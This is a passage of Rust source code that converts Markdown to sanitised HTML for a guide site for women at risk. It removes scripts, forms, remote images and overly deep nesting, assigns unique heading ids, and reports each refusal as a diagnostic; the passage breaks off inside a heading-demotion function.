//! Markdown to safe HTML: pulldown-cmark for the Markdown, ammonia to sanitise the
//! raw HTML an editor may paste (no script, no event handlers, no iframes, no
//! `javascript:` or `data:` URLs, no form controls, no images from other hosts).
//!
//! What it refuses is also said, at its place in the file: [`render_at`]
//! returns the problems with the HTML, and [`report`] makes them diagnostics.
//!
//! The time taken grows in proportion to the text, whatever its shape.
//! pulldown-cmark is linear, but html5ever, which ammonia parses with, is
//! quadratic in the depth of nested elements (servo/html5ever#788: 80 KB of `> `
//! took 19 s), so nesting is bounded before the HTML reaches it: quotes and
//! lists at [`MAX_NESTING`] levels, emphasis likewise, and raw HTML nested
//! deeper than that is shown as text.
//!
//! Ids: every id in a body is made here (headings, footnotes), unique within
//! the body; raw HTML's own ids are dropped. A body that shares its page with
//! others has them prefixed ([`prefix_ids`]) so that they stay unique there.

use std::borrow::Cow;
use std::cell::RefCell;
use std::collections::{HashMap, HashSet};
use std::ops::Range;
use std::sync::LazyLock;

use pulldown_cmark::{CowStr, Event, HeadingLevel, Options, Parser, Tag, TagEnd};

use crate::diagnostics::{Diagnostics, Pos, Severity};
use crate::model::{Markdown, Pathway, Site};

/// How deep quotes and lists, emphasis, and raw HTML elements may nest. Content
/// has no use for more, and each level costs the HTML parser time on every
/// element inside it.
pub const MAX_NESTING: usize = 16;

/// Problems reported per body, beyond which one line counts the rest.
const MAX_PROBLEMS: usize = 20;

/// Ids the default theme gives the page around a body that stands alone (the
/// skip link's target, the emergency label): a heading "Main" must not take them.
const RESERVED_IDS: &[&str] = &["main", "emergency-label"];

/// Elements that make a form. A form in a guide for women at risk could collect
/// a woman's details for someone else.
#[rustfmt::skip]
const FORM_CONTROLS: &[&str] = &[
    "form", "input", "button", "select", "textarea", "datalist", "keygen", "isindex",
];

/// Where a Markdown text stands in its file, to place diagnostics.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub enum Origin {
    /// Not from a file (tests, the fuzzer): problems have no position.
    #[default]
    Unknown,
    /// A file's body, starting on this line: positions inside it are exact.
    Body { line: usize },
    /// A front-matter field whose value starts here: problems are reported
    /// at the field, since YAML may fold or indent its text.
    Field(Pos),
}

/// Something rendering refused or changed, for a diagnostic.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Problem {
    pub severity: Severity,
    pub pos: Option<Pos>,
    pub message: String,
}

/// Sanitised HTML, and what was refused on the way.
#[derive(Debug, Default)]
pub struct Rendered {
    pub html: String,
    pub problems: Vec<Problem>,
}

/// What the sanitiser's attribute filter needs to know about the body being
/// cleaned. ammonia's builder is shared, so this is per thread, set just
/// before `clean` and read just after.
#[derive(Default)]
struct Cleaning {
    /// The ids rendering made (any other came from raw HTML), each with
    /// whether the sanitiser has met it yet.
    made: HashMap<String, bool>,
    refused_images: usize,
}

thread_local! {
    static CLEANING: RefCell<Cleaning> = RefCell::default();
}

static SANITISER: LazyLock<ammonia::Builder<'static>> = LazyLock::new(|| {
    let mut builder = ammonia::Builder::default();
    builder
        .url_schemes(HashSet::from(["http", "https", "mailto", "tel", "sms"]))
        .link_rel(Some("noopener noreferrer"))
        .add_tag_attributes("h2", ["id"])
        .add_tag_attributes("h3", ["id"])
        .add_tag_attributes("h4", ["id"])
        .add_tag_attributes("h5", ["id"])
        .add_tag_attributes("h6", ["id"])
        .add_tag_attributes("div", ["id", "class"])
        .add_tag_attributes("sup", ["class"])
        .attribute_filter(|element, attribute, value| match (element, attribute) {
            // A page must make no request to another host: the request would
            // tell that host who is reading the guide.
            ("img", "src") if image_source(value) != ImageSource::Local => {
                CLEANING.with(|c| c.borrow_mut().refused_images += 1);
                None
            }
            // Only the ids rendering made, once each.
            (_, "id") => CLEANING.with(|c| {
                let mut c = c.borrow_mut();
                let first = c
                    .made
                    .get_mut(value)
                    .is_some_and(|met| !std::mem::replace(met, true));
                first.then_some(Cow::Borrowed(value))
            }),
            _ => Some(Cow::Borrowed(value)),
        });
    builder
});

fn options() -> Options {
    Options::ENABLE_TABLES
        | Options::ENABLE_FOOTNOTES
        | Options::ENABLE_STRIKETHROUGH
        | Options::ENABLE_SMART_PUNCTUATION
        | Options::ENABLE_HEADING_ATTRIBUTES
        | Options::ENABLE_TASKLISTS
}

/// The id prefix of a service's body on a page that holds several (the print
/// page). Every prefix ends in `--`, which no slug and no id the templates make
/// contains, and starts with the kind of entry, so prefixed ids never meet
/// each other or the page's own.
pub fn service_ids(slug: &str) -> String {
    format!("service-{slug}--")
}

/// The id prefix of a pathway's introduction, on its page and the print page.
pub fn pathway_ids(slug: &str) -> String {
    format!("pathway-{slug}--")
}

/// The id prefix of a pathway step's text. Its ids follow `pathway-P--` with
/// `step-S--`, which no id of the introduction can: those hold no `--`.
pub fn step_ids(pathway: &str, step: &str) -> String {
    format!("pathway-{pathway}--step-{step}--")
}

/// Renders Markdown to sanitised HTML. Headings start at `h2`, since the page's
/// title is its only `h1`; each heading gets an `id` to link to.
pub fn render(source: &str) -> String {
    render_at(source, Origin::Unknown).html
}

/// Renders a body, replacing its HTML and problems. `ids` prefixes every id
/// in it (empty for a body that has its page to itself).
pub fn render_body(body: &mut Markdown, ids: &str) {
    let rendered = render_at(&body.source, body.origin);
    body.html = if ids.is_empty() {
        rendered.html
    } else {
        prefix_ids(&rendered.html, ids)
    }
    .into();
    body.problems = rendered.problems.into();
}

/// Renders a pathway's introduction and its steps' texts, which share the
/// pathway's page, each with its own id prefix.
pub fn render_pathway(pathway: &mut Pathway) {
    render_body(&mut pathway.body, &pathway_ids(&pathway.slug));
    for step in &mut pathway.steps {
        render_body(&mut step.text, &step_ids(&pathway.slug, &step.id.value));
    }
}

/// Reports what rendering refused in every body of the site, at its place. A
/// draft's problems are warnings: it is not published.
pub fn report(site: &Site, diags: &mut Diagnostics) {
    let mut put = |file: &str, body: &Markdown, draft: bool| {
        for p in body.problems.iter() {
            if draft || p.severity == Severity::Warning {
                diags.warning(file, p.pos, p.message.clone());
            } else {
                diags.error(file, p.pos, p.message.clone());
            }
        }
    };
    for s in &site.services {
        put(&s.file, &s.body, s.draft);
    }
    for p in &site.pathways {
        put(&p.file, &p.body, false);
        for step in &p.steps {
            put(&p.file, &step.text, false);
        }
    }
    for c in &site.case_studies {
        put(&c.file, &c.body, false);
    }
    for p in &site.pages {
        put(&p.file, &p.body, false);
    }
}

/// Renders Markdown that stands at `origin` in its file.
pub fn render_at(source: &str, origin: Origin) -> Rendered {
    if source.trim().is_empty() {
        return Rendered::default();
    }
    let events: Vec<(Event, Range<usize>)> = Parser::new_ext(source, options())
        .into_offset_iter()
        .collect();
    let mut problems = Problems::new(source, origin);
    let ids = Ids::assign(&events);
    let raw = RawHtml::scan(source, &events, &mut problems);
    let events = transform(events, &ids, &raw, &mut problems);
    let mut html = String::with_capacity(source.len() * 3 / 2);
    pulldown_cmark::html::push_html(&mut html, events.into_iter());

    CLEANING.with(|c| {
        *c.borrow_mut() = Cleaning {
            made: ids.made,
            refused_images: 0,
        }
    });
    let html = SANITISER.clean(&html).to_string();
    let cleaning = CLEANING.with(|c| std::mem::take(&mut *c.borrow_mut()));
    // The filter sees what the scan may miss (a URL hidden behind a character
    // reference the scan does not decode): say so, at the start of the text,
    // rather than drop it unsaid.
    if cleaning.refused_images > raw.remote_images {
        problems.push(
            Severity::Error,
            Some(0),
            "an image from another host was removed from this text: pages load nothing from other sites; save the image in the theme's `static` folder and link it with a relative path".into(),
        );
    }
    Rendered {
        html,
        problems: problems.finish(),
    }
}

/// The problems of one text, placed in its file.
struct Problems<'a> {
    source: &'a str,
    origin: Origin,
    list: Vec<Problem>,
    more: usize,
    more_errors: bool,
}

impl<'a> Problems<'a> {
    fn new(source: &'a str, origin: Origin) -> Self {
        Problems {
            source,
            origin,
            list: Vec::new(),
            more: 0,
            more_errors: false,
        }
    }

    /// Adds a problem at a byte offset of the source (or without a place).
    fn push(&mut self, severity: Severity, offset: Option<usize>, message: String) {
        if self.list.len() >= MAX_PROBLEMS {
            self.more += 1;
            self.more_errors |= severity == Severity::Error;
            return;
        }
        let pos = match (self.origin, offset) {
            (Origin::Body { line }, Some(offset)) => {
                let mut end = offset.min(self.source.len());
                while !self.source.is_char_boundary(end) {
                    end -= 1;
                }
                let before = &self.source[..end];
                let lines = before.matches('\n').count();
                let column = before.rsplit('\n').next().map_or(0, |l| l.chars().count()) + 1;
                Some(Pos::new(line + lines, column))
            }
            (Origin::Field(pos), _) => Some(pos),
            _ => None,
        };
        self.list.push(Problem {
            severity,
            pos,
            message,
        });
    }

    fn finish(mut self) -> Vec<Problem> {
        if self.more > 0 {
            let severity = if self.more_errors {
                Severity::Error
            } else {
                Severity::Warning
            };
            self.list.push(Problem {
                severity,
                pos: match self.origin {
                    Origin::Body { line } => Some(Pos::new(line, 1)),
                    Origin::Field(pos) => Some(pos),
                    Origin::Unknown => None,
                },
                message: format!("and {} more problems like these in this text", self.more),
            });
        }
        self.list
    }
}

/// The ids of a text's headings and footnotes, made in document order.
struct Ids {
    /// The headings' ids, in order.
    headings: Vec<String>,
    /// Footnote label → (number, id).
    footnotes: HashMap<String, (usize, String)>,
    /// An explicit id as written (`{#Where to go}`) → the id it became, for
    /// links to it.
    aliases: HashMap<String, String>,
    /// Every id made, each with whether the sanitiser has met it yet.
    made: HashMap<String, bool>,
    /// Headings move down so that the top one is an `h2`.
    shift: usize,
}

impl Ids {
    fn assign(events: &[(Event, Range<usize>)]) -> Ids {
        let mut ids = Ids {
            headings: Vec::new(),
            footnotes: HashMap::new(),
            aliases: HashMap::new(),
            made: HashMap::new(),
            shift: 0,
        };
        let mut unique = Unique::default();
        let mut top: Option<usize> = None;
        let mut i = 0;
        while i < events.len() {
            match &events[i].0 {
                Event::Start(Tag::Heading { level, id, .. }) => {
                    top = Some(top.map_or(*level as usize, |t| t.min(*level as usize)));
                    // The heading's text runs to its end; headings do not nest,
                    // so this reads each event once.
                    let mut text = String::new();
                    let mut j = i + 1;
                    while let Some((e, _)) = events.get(j) {
                        match e {
                            Event::End(TagEnd::Heading(_)) => break,
                            Event::Text(t) | Event::Code(t) => text.push_str(t),
                            _ => {}
                        }
                        j += 1;
                    }
                    let written = id.as_ref().map(|id| crate::slug::from_title(id));
                    let base = match written.filter(|w| !w.is_empty()) {
                        Some(w) => w,
                        None => crate::slug::from_title(&text),
                    };
                    let base = if base.is_empty() {
                        "section".to_owned()
                    } else {
                        base
                    };
                    let made = unique.make(&base);
                    if let Some(id) = id {
                        ids.aliases.insert(id.to_string(), made.clone());
                    }
                    ids.made.insert(made.clone(), false);
                    ids.headings.push(made);
                    i = j;
                    continue;
                }
                Event::FootnoteReference(label) | Event::Start(Tag::FootnoteDefinition(label))
                    if !ids.footnotes.contains_key(label.as_ref()) =>
                {
                    let number = ids.footnotes.len() + 1;
                    let made = unique.make(&format!("fn-{number}"));
                    ids.made.insert(made.clone(), false);
                    ids.footnotes.insert(label.to_string(), (number, made));
                }
                _ => {}
            }
            i += 1;
        }
        ids.shift = top.map_or(0, |top| 2usize.saturating_sub(top));
        ids
    }
}

/// Makes ids unique within a text: the first `top`, then `top-2`, `top-3`. It
/// counts per base id rather than trying every suffix from 2 again, which made
/// 120 KB of identical headings take 12 s.
struct Unique {
    used: HashSet<String>,
    next: HashMap<String, usize>,
    /// Ids tried, made or not: the work done, for the tests.
    tries: usize,
}

impl Default for Unique {
    fn default() -> Self {
        Unique {
            used: RESERVED_IDS.iter().map(|&id| id.to_owned()).collect(),
            next: HashMap::new(),
            tries: 0,
        }
    }
}

impl Unique {
    fn make(&mut self, base: &str) -> String {
        let mut n = self.next.get(base).copied().unwrap_or(1);
        // Each id is tried at most once per base, so at most twice in all
        // ("a-2" made from "a", or written as a heading of its own).
        let id = loop {
            let id = if n == 1 {
                base.to_owned()
            } else {
                format!("{base}-{n}")
            };
            n += 1;
            self.tries += 1;
            if self.used.insert(id.clone()) {
                break id;
            }
        };
        match self.next.get_mut(base) {
            Some(next) => *next = n,
            None => {
                self.next.insert(base.to_owned(), n);
            }
        }
        id
    }
}

/// Where an image comes from.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum ImageSource {
    /// A path on the guide's own site.
    Local,
    /// Another host: an absolute URL, a protocol-relative `//host/...`, or any
    /// scheme the browser would follow.
    Remote,
    /// A `data:` URL: the image is in the text itself.
    Data,
}

/// Reads an image URL as a browser would: tabs and newlines inside it are
/// dropped, spaces and control characters around it trimmed, and `\` is `/`.
fn image_source(url: &str) -> ImageSource {
    let url: String = url
        .chars()
        .filter(|c| !matches!(c, '\t' | '\n' | '\r'))
        .collect();
    let url = url.trim_matches(|c: char| c <= ' ').replace('\\', "/");
    if url.starts_with("//") {
        return ImageSource::Remote;
    }
    let scheme_end =
        url.find(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.')));
    match scheme_end {
        Some(end) if end > 0 && url[end..].starts_with(':') => {
            if url[..end].eq_ignore_ascii_case("data") {
                ImageSource::Data
            } else {
                ImageSource::Remote
            }
        }
        _ => ImageSource::Local,
    }
}

/// What to say of an image that is not local. One from another host is an
/// error: the request would tell that host who reads the guide. A `data:` URL
/// asks nothing of anyone, so it is only a warning, but it is removed all the
/// same: the sanitiser cannot see inside it (an SVG can hold script), and an
/// image in the text is one nobody reviews as a file.
fn image_problem(url: &str, kind: ImageSource) -> (Severity, String) {
    let mut shown: String = url.chars().take(80).collect();
    if shown.len() < url.len() {
        shown.push('…');
    }
    match kind {
        ImageSource::Data => (Severity::Warning, "an image written into the text as a `data:` URL is removed: save it as a file in the theme's `static` folder and link it with a relative path".to_owned()),
        _ => (Severity::Error, format!("the image \"{shown}\" is on another host, so it is removed: pages load nothing from other sites, since the request would tell that site who is reading; save the image in the theme's `static` folder and link it with a relative path")),
    }
}

/// Elements that never have content: they do not nest.
#[rustfmt::skip]
const VOID: &[&str] = &[
    "area", "base", "basefont", "bgsound", "br", "col", "embed", "frame", "hr", "image", "img",
    "input", "keygen", "link", "meta", "param", "source", "track", "wbr",
];

/// Elements that the next of their kind closes (`<p>a<p>b`): they do not nest
/// by themselves, so counting them would only count paragraphs.
#[rustfmt::skip]
const SELF_CLOSING: &[&str] = &[
    "p", "li", "dt", "dd", "option", "optgroup", "rb", "rt", "rtc", "rp", "tr", "td", "th",
    "thead", "tbody", "tfoot", "caption", "colgroup", "html", "head", "body",
];

/// Elements whose content is text up to their end tag.
#[rustfmt::skip]
const RAW_TEXT: &[&str] = &[
    "script", "style", "textarea", "title", "xmp", "iframe", "noembed", "noframes", "noscript",
];

/// Elements an end tag of another name does not close past ("special" in the
/// HTML parsing rules), and those no end tag closes past ("scope" boundaries).
#[rustfmt::skip]
const SPECIAL: &[&str] = &[
    "address", "applet", "area", "article", "aside", "base", "basefont", "bgsound",
    "blockquote", "body", "br", "button", "caption", "center", "col", "colgroup", "dd",
    "details", "dir", "div", "dl", "dt", "embed", "fieldset", "figcaption", "figure", "footer",
    "form", "frame", "frameset", "h1", "h2", "h3", "h4", "h5", "h6", "head", "header",
    "hgroup", "hr", "html", "iframe", "img", "input", "keygen", "li", "link", "listing",
    "main", "marquee", "menu", "meta", "nav", "noembed", "noframes", "noscript", "object",
    "ol", "p", "param", "plaintext", "pre", "script", "search", "section", "select", "source",
    "style", "summary", "table", "tbody", "td", "template", "textarea", "tfoot", "th", "thead",
    "title", "tr", "track", "ul", "wbr", "xmp",
];
#[rustfmt::skip]
const SCOPE: &[&str] = &[
    "applet", "caption", "html", "table", "td", "th", "marquee", "object", "template",
];

/// What a scan of a text's raw HTML found.
#[derive(Default)]
struct RawHtml {
    /// Raw HTML nests deeper than [`MAX_NESTING`]: show it as text.
    too_deep: bool,
    /// Images from other hosts the scan reported.
    remote_images: usize,
}

/// One tag in raw HTML.
struct RawTag<'a> {
    at: usize,
    name: String,
    closing: bool,
    /// An image's `src`, its character references decoded.
    src: Option<Cow<'a, str>>,
}

impl RawHtml {
    /// Reads the raw HTML of a text, in the events' order, for form controls,
    /// images from elsewhere and the depth its elements nest to. The depth is
    /// counted as the HTML parser would build it, erring high: an end tag closes
    /// only what the parser would let it close.
    fn scan(source: &str, events: &[(Event, Range<usize>)], problems: &mut Problems) -> RawHtml {
        // The raw HTML, joined, with where each piece stands in the source.
        let mut text = String::new();
        let mut pieces: Vec<(usize, usize, bool)> = Vec::new();
        for (event, range) in events {
            if let Event::Html(html) | Event::InlineHtml(html) = event {
                let exact = source.get(range.clone()) == Some(html.as_ref());
                pieces.push((text.len(), range.start, exact));
                text.push_str(html);
            }
        }
        let mut found = RawHtml::default();
        if text.is_empty() {
            return found;
        }
        let place = |at: usize| {
            let i = pieces.partition_point(|p| p.0 <= at).saturating_sub(1);
            pieces
                .get(i)
                .map(|&(start, src, exact)| if exact { src + (at - start) } else { src })
        };
        let mut open: Vec<String> = Vec::new();
        scan_tags(&text, |tag| {
            if tag.closing {
                // Close up to the nearest open element of that name, unless
                // the parser would stop first.
                let special = SPECIAL.contains(&tag.name.as_str());
                for i in (0..open.len()).rev() {
                    let here = open[i].as_str();
                    if here == tag.name {
                        open.truncate(i);
                        break;
                    }
                    if SCOPE.contains(&here) || (!special && SPECIAL.contains(&here)) {
                        break;
                    }
                }
                return;
            }
            if FORM_CONTROLS.contains(&tag.name.as_str()) {
                problems.push(
                    Severity::Error,
                    place(tag.at),
                    format!(
                        "a form control (<{}>) in the text is removed: a guide holds no forms, since one could collect a woman's details for someone else; give a phone number, email or web address instead",
                        tag.name
                    ),
                );
            }
            if let Some(src) = tag.src {
                let kind = image_source(&src);
                if kind != ImageSource::Local {
                    found.remote_images += usize::from(kind == ImageSource::Remote);
                    let (severity, message) = image_problem(&src, kind);
                    problems.push(severity, place(tag.at), message);
                }
            }
            let name = tag.name.as_str();
            if !found.too_deep && !VOID.contains(&name) && !SELF_CLOSING.contains(&name) {
                open.push(tag.name);
                if open.len() > MAX_NESTING {
                    found.too_deep = true;
                    problems.push(
                        Severity::Warning,
                        place(tag.at),
                        format!("raw HTML nested more than {MAX_NESTING} elements deep: this text's HTML is shown as text, not used; close the elements you open"),
                    );
                }
            }
        });
        found
    }
}

/// An attribute value with the character references a URL could hide behind
/// decoded: numeric ones, and the named ones for `/`, `:`, `.`, `&`, tab and
/// newline. (The sanitiser catches any other, and it is reported at the start
/// of the text.)
fn decode_references(value: &str) -> Cow<'_, str> {
    if !value.contains('&') {
        return Cow::Borrowed(value);
    }
    let mut out = String::with_capacity(value.len());
    let mut rest = value;
    while let Some(amp) = rest.find('&') {
        out.push_str(&rest[..amp]);
        rest = &rest[amp..];
        let name_end = rest[1..]
            .find(|c: char| !(c.is_ascii_alphanumeric() || c == '#'))
            .map_or(rest.len(), |e| e + 1);
        let name = &rest[1..name_end];
        let numeric = name
            .strip_prefix("#x")
            .or_else(|| name.strip_prefix("#X"))
            .map(|hex| u32::from_str_radix(hex, 16))
            .or_else(|| name.strip_prefix('#').map(str::parse::<u32>));
        let decoded = match numeric {
            Some(Ok(n)) => char::from_u32(n),
            Some(Err(_)) => None,
            None => match name {
                "sol" => Some('/'),
                "colon" => Some(':'),
                "period" => Some('.'),
                "amp" => Some('&'),
                "Tab" => Some('\t'),
                "NewLine" => Some('\n'),
                _ => None,
            },
        };
        match decoded {
            Some(c) => {
                out.push(c);
                rest = &rest[name_end..];
                rest = rest.strip_prefix(';').unwrap_or(rest);
            }
            None => {
                out.push('&');
                rest = &rest[1..];
            }
        }
    }
    out.push_str(rest);
    Cow::Owned(out)
}

/// Calls `f` on every tag of `html`, in order, skipping comments, doctypes and
/// the text inside `<script>`, `<textarea>` and the like. Reads each byte once.
fn scan_tags<'a>(html: &'a str, mut f: impl FnMut(RawTag<'a>)) {
    let bytes = html.as_bytes();
    let lower = html.to_ascii_lowercase();
    let len = bytes.len();
    let skip_to = |from: usize, pattern: &str, past: bool| {
        lower
            .get(from..)
            .and_then(|rest| rest.find(pattern))
            .map_or(len, |at| from + at + if past { pattern.len() } else { 0 })
    };
    let mut i = 0;
    while let Some(found) = html.get(i..).and_then(|rest| rest.find('<')) {
        let lt = i + found;
        let rest = &bytes[lt..];
        if rest.starts_with(b"<!--") {
            // `<!-->` and `<!--->` are whole (empty) comments.
            i = match &rest[4..] {
                [b'>', ..] => lt + 5,
                [b'-', b'>', ..] => lt + 6,
                _ => skip_to(lt + 4, "-->", true),
            };
            continue;
        }
        if matches!(rest.get(1), Some(b'!' | b'?')) {
            i = skip_to(lt + 1, ">", true);
            continue;
        }
        let closing = rest.get(1) == Some(&b'/');
        let name_start = lt + 1 + usize::from(closing);
        if !bytes.get(name_start).is_some_and(u8::is_ascii_alphabetic) {
            i = lt + 1;
            continue;
        }
        let ends_name = |b: u8| b.is_ascii_whitespace() || b == b'/' || b == b'>';
        let mut j = name_start;
        while j < len && !ends_name(bytes[j]) {
            j += 1;
        }
        let name = lower[name_start..j].to_owned();
        let mut src = None;
        // Attributes, up to the `>` that is not inside a quoted value.
        loop {
            while j < len && (bytes[j].is_ascii_whitespace() || bytes[j] == b'/') {
                j += 1;
            }
            if j >= len || bytes[j] == b'>' {
                break;
            }
            let attr_start = j;
            j += 1; // The first character is part of the name, even `=`.
            while j < len && !ends_name(bytes[j]) && bytes[j] != b'=' {
                j += 1;
            }
            let attr = &lower[attr_start..j];
            while j < len && bytes[j].is_ascii_whitespace() {
                j += 1;
            }
            if bytes.get(j) != Some(&b'=') {
                continue;
            }
            j += 1;
            while j < len && bytes[j].is_ascii_whitespace() {
                j += 1;
            }
            let value = match bytes.get(j) {
                Some(&quote @ (b'"' | b'\'')) => {
                    let end = html[j + 1..]
                        .find(char::from(quote))
                        .map_or(len, |e| j + 1 + e);
                    let value = &html[j + 1..end];
                    j = (end + 1).min(len);
                    value
                }
                _ => {
                    let start = j;
                    while j < len && !bytes[j].is_ascii_whitespace() && bytes[j] != b'>' {
                        j += 1;
                    }
                    &html[start..j]
                }
            };
            // The parser keeps the first of two attributes of one name.
            if attr == "src" && src.is_none() && matches!(name.as_str(), "img" | "image") {
                src = Some(decode_references(value));
            }
        }
        i = (j + 1).min(len);
        let raw_text = !closing && RAW_TEXT.contains(&name.as_str());
        let plaintext = !closing && name == "plaintext";
        let end_tag = format!("</{name}");
        f(RawTag {
            at: lt,
            name,
            closing,
            src,
        });
        if plaintext {
            return;
        }
        if raw_text {
            i = skip_to(i, &end_tag, false);
        }
    }
}

/// What became of a start tag, so that its end tag follows it.
#[derive(Clone, Copy, PartialEq)]
enum Opened {
    Kept,
    /// A quote or list, counting towards the block depth.
    Block,
    /// Emphasis, counting towards the inline depth.
    Inline,
    /// A heading, moved down `shift` levels.
    Heading,
    /// A footnote definition, written as our own HTML.
    Footnote,
    /// Left out; its content stays. A list item left out ends with a space.
    Dropped {
        item: bool,
    },
}

/// Gives headings and footnotes their ids, bounds nesting, refuses images
/// from elsewhere and raw HTML nested too deep, and writes task list markers
/// as text (a checkbox is a form control, and forms are refused).
fn transform<'a>(
    events: Vec<(Event<'a>, Range<usize>)>,
    ids: &Ids,
    raw: &RawHtml,
    problems: &mut Problems,
) -> Vec<Event<'a>> {
    let mut out = Vec::with_capacity(events.len());
    let mut headings = ids.headings.iter();
    let mut opened: Vec<Opened> = Vec::new();
    let (mut blocks, mut inlines) = (0usize, 0usize);
    let (mut warned_blocks, mut warned_inlines) = (false, false);
    for (event, range) in events {
        match event {
            Event::Start(tag) => {
                let how = match &tag {
                    Tag::BlockQuote(_) | Tag::List(_) if blocks >= MAX_NESTING => {
                        if !warned_blocks {
                            warned_blocks = true;
                            problems.push(
                                Severity::Warning,
                                Some(range.start),
                                format!("quotes and lists nested more than {MAX_NESTING} levels deep: the deeper levels are shown at level {MAX_NESTING}"),
                            );
                        }
                        Opened::Dropped { item: false }
                    }
                    Tag::BlockQuote(_) | Tag::List(_) => Opened::Block,
                    // An item goes with its list.
                    Tag::Item => match opened.last() {
                        Some(Opened::Dropped { .. }) => Opened::Dropped { item: true },
                        _ => Opened::Kept,
                    },
                    Tag::Emphasis | Tag::Strong | Tag::Strikethrough if inlines >= MAX_NESTING => {
                        if !warned_inlines {
                            warned_inlines = true;
                            problems.push(
                                Severity::Warning,
                                Some(range.start),
                                format!("emphasis nested more than {MAX_NESTING} levels deep: the deeper levels are shown as plain text"),
                            );
                        }
                        Opened::Dropped { item: false }
                    }
                    Tag::Emphasis | Tag::Strong | Tag::Strikethrough => Opened::Inline,
                    Tag::Image { dest_url, .. } => match image_source(dest_url) {
                        ImageSource::Local => Opened::Kept,
                        kind => {
                            let (severity, message) = image_problem(dest_url, kind);
                            problems.push(severity, Some(range.start), message);
                            // Its description stays, as text.
                            Opened::Dropped { item: false }
                        }
                    },
                    Tag::Heading { .. } => Opened::Heading,
                    Tag::FootnoteDefinition(_) => Opened::Footnote,
                    _ => Opened::Kept,
                };
                match how {
                    Opened::Block => blocks += 1,
                    Opened::Inline => inlines += 1,
                    _ => {}
                }
                opened.push(how);
                match (how, tag) {
                    (Opened::Dropped { .. }, _) => {}
                    (
                        Opened::Heading,
                        Tag::Heading {
                            level,
                            classes,
                            attrs,
                            ..
                        },
                    ) => out.push(Event::Start(Tag::Heading {
                        level: shifted(level, ids.shift),
                        id: headings.next().map(|id| CowStr::from(id.clone())),
                        classes,
                        attrs,
                    })),
                    (Opened::Footnote, Tag::FootnoteDefinition(label)) => {
                        if let Some((number, id)) = ids.footnotes.get(label.as_ref()) {
                            out.push(Event::Html(CowStr::from(format!(
                                "<div class=\"footnote-definition\" id=\"{id}\"><sup class=\"footnote-definition-label\">{number}</sup>"
                            ))));
                        } else {
                            out.push(Event::Html(CowStr::Borrowed(
                                "<div class=\"footnote-definition\">",
                            )));
                        }
                    }
                    (
                        _,
                        Tag::Link {
                            link_type,
                            dest_url,
                            title,
                            id,
                        },
                    ) => {
                        // A link to a heading's explicit id as written.
                        let dest_url =
                            match dest_url.strip_prefix('#').and_then(|f| ids.aliases.get(f)) {
                                Some(made) => CowStr::from(format!("#{made}")),
                                None => dest_url,
                            };
                        out.push(Event::Start(Tag::Link {
                            link_type,
                            dest_url,
                            title,
                            id,
                        }));
                    }
                    (_, tag) => out.push(Event::Start(tag)),
                }
            }
            Event::End(end) => match opened.pop() {
                Some(Opened::Dropped { item }) => {
                    if item {
                        out.push(Event::SoftBreak);
                    }
                }
                Some(how) => {
                    match how {
                        Opened::Block => blocks = blocks.saturating_sub(1),
                        Opened::Inline => inlines = inlines.saturating_sub(1),
                        _ => {}
                    }
                    out.push(match (how, end) {
                        (Opened::Heading, TagEnd::Heading(level)) => {
                            Event::End(TagEnd::Heading(shifted(level, ids.shift)))
                        }
                        (Opened::Footnote, _) => Event::Html(CowStr::Borrowed("</div>\n")),
                        (_, end) => Event::End(end),
                    });
                }
                None => out.push(Event::End(end)),
            },
            Event::FootnoteReference(label) => match ids.footnotes.get(label.as_ref()) {
                Some((number, id)) => out.push(Event::InlineHtml(CowStr::from(format!(
                    "<sup class=\"footnote-reference\"><a href=\"#{id}\">{number}</a></sup>"
                )))),
                None => out.push(Event::Text(label)),
            },
            Event::TaskListMarker(done) => out.push(Event::Text(CowStr::Borrowed(if done {
                "☑ "
            } else {
                "☐ "
            }))),
            Event::Html(html) | Event::InlineHtml(html) if raw.too_deep => {
                out.push(Event::Text(html))
            }
            other => out.push(other),
        }
    }
    out
}

fn shifted(level: HeadingLevel, shift: usize) -> HeadingLevel {
    let n = (level as usize + shift).min(6);
    HeadingLevel::try_from(n).unwrap_or(HeadingLevel::H6)
}

/// Prefixes every id in a body's sanitised HTML with `prefix`, and every link
/// to one of them, for a page that holds several bodies. Relies on what
/// ammonia writes: attribute values in double quotes, with `"` escaped, and
/// `<` escaped in text, so that every `<` starts a tag.
pub fn prefix_ids(html: &str, prefix: &str) -> String {
    // First the ids, since a link may come before its target.
    let mut ids: HashSet<&str> = HashSet::new();
    for_each_attribute(html, |name, value, _| {
        if name == "id" {
            ids.insert(value);
        }
    });
    if ids.is_empty() {
        return html.to_owned();
    }
    let mut out = String::with_capacity(html.len() + ids.len() * (prefix.len() + 8));
    let mut copied = 0;
    for_each_attribute(html, |name, value, at| {
        let target = match name {
            "id" => Some(at),
            "href" => value
                .strip_prefix('#')
                .filter(|fragment| ids.contains(fragment))
                .map(|_| at + 1),
            _ => None,
        };
        if let Some(at) = target {
            out.push_str(&html[copied..at]);
            out.push_str(prefix);
            copied = at;
        }
    });
    out.push_str(&html[copied..]);
    out
}

/// Calls `f(name, value, offset of the value)` for every attribute of every
/// tag in sanitised HTML (see [`prefix_ids`]).
fn for_each_attribute<'a>(html: &'a str, mut f: impl FnMut(&str, &'a str, usize)) {
    let bytes = html.as_bytes();
    let len = bytes.len();
    let mut i = 0;
    while let Some(found) = html.get(i..).and_then(|rest| rest.find('<')) {
        let mut j = i + found + 1;
        // The tag's name, then its attributes up to `>`.
        while j < len && !matches!(bytes[j], b' ' | b'>') {
            j += 1;
        }
        while j < len && bytes[j] != b'>' {
            if bytes[j] == b' ' || bytes[j] == b'/' {
                j += 1;
                continue;
            }
            let name_start = j;
            while j < len && !matches!(bytes[j], b'=' | b' ' | b'>') {
                j += 1;
            }
            let name = &html[name_start..j];
            if bytes.get(j) == Some(&b'=') && bytes.get(j + 1) == Some(&b'"') {
                let start = j + 2;
                let end = html[start..].find('"').map_or(len, |e| start + e);
                f(name, &html[start..end], start);
                j = end + 1;
            } else if bytes.get(j) == Some(&b'=') {
                j += 1;
            }
        }
        i = j.min(len);
    }
}

/// Moves every heading in rendered HTML down by `by` levels (for the print page,
/// where a service's body sits under the service's own heading). Safe on our own
/// sanitised output: a literal `<h2` in text is always escaped as `&lt;h2`.
pub fn demote_headings(html: &str, by: usize) -> String {
    // One pass: every `<hN` and `</hN>` with N from 2 to 6 gets N + by, at
    // most 6. The patterns are ASCII, so the text between them is copied as
    // whole slices.
